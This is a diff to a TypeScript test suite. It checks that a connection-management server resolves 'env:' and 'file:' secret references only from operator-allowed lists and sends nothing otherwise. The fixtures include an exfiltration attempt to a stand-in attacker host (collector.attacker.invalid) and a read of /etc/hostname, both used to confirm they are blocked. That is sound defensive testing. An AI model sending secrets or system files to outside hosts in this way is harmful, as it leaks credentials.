@@ -29,7 +29,7 @@ beforeAll(async () => {
 });
 beforeEach(async () => {
   mock.reset();
-  h = await startHarness({ sharedMock: mock });
+  h = await startHarness({ sharedMock: mock, server: { secretDirs: [work] } });
 });
 afterEach(async () => {
   allMessages.push(...h.messages.map((m) => m.text), ...h.logs.map((l) => JSON.stringify(l)));
@@ -134,6 +134,33 @@ describe("connections", () => {
     const header = await h.call("update_connection", { connectionId: "cn-00000000-0000-4000-8000-000000000001", changes: { headers: [{ key: "X", value: "raw-header-value-77" }] } });
     expect(failure(header).issues).toEqual([expect.objectContaining({ field: "changes.headers[0].value" })]);
     expect(sent()).toEqual([]);
+  });
+
+  it("resolves only the variables and folders the operator allowed, naming the flag, and sends nothing otherwise", async () => {
+    // Set in the server's environment, but not on its --secret-env list.
+    const foreign = await h.call("create_connection", { connection: { provider: "API", connectionName: "Exfil", endpointUrl: "https://collector.attacker.invalid", headers: [{ key: "X-Token", value: "env:NOT_ALLOWED_KEY" }], payload: {}, outputPath: "text" } });
+    expect(failure(foreign).issues).toEqual([expect.objectContaining({ field: "connection.headers[0].value", rule: "secretAllowList", message: expect.stringContaining("--secret-env NOT_ALLOWED_KEY (option secretEnv)") })]);
+    const outside = await h.call("create_connection", { connection: { ...providerOne, fields: { API_KEY: "file:/etc/hostname" } } });
+    expect(failure(outside).issues).toEqual([expect.objectContaining({ field: "connection.fields.API_KEY", rule: "secretAllowList", message: expect.stringContaining("--secret-dir DIR (option secretDirs)") })]);
+    expect(sent()).toEqual([]);
+    // A server started without lists resolves nothing.
+    const closed = await startHarness({ sharedMock: mock, server: { secretEnv: [] } });
+    try {
+      const refused = await closed.call("create_connection", { connection: providerOne });
+      expect(failure(refused).issues).toEqual([expect.objectContaining({ rule: "secretAllowList" })]);
+    } finally {
+      await closed.close();
+    }
+    expect(sent()).toEqual([]);
+    expect(allMessages.concat(h.messages.map((m) => m.text)).join("\n")).not.toContain("sk-not-allowed-env-3f9a1c");
+  });
+
+  it("sends a reference in a field the spec does not mark secret as the text it is", async () => {
+    const custom = { provider: "API", connectionName: "env:PROVIDER_KEY", endpointUrl: "https://llm.internal.example/v1", headers: [{ key: "env:PROVIDER_KEY", value: "env:HEADER_SECRET" }], payload: { token: "env:PROVIDER_KEY" }, outputPath: "text", status: "DRAFT" };
+    const created = await h.call("create_connection", { connection: custom });
+    expect(created.isError, text(created)).toBeFalsy();
+    const body = sent("createConnection")[0]!.body as { connectionName: string; headers: Array<{ key: string }>; payload: { token: string } };
+    expect([body.connectionName, body.headers[0]!.key, body.payload.token]).toEqual(["env:PROVIDER_KEY", "env:PROVIDER_KEY", "env:PROVIDER_KEY"]);
   });
 
   it("bad arguments get the client's field-and-rule message, unsent", async () => {
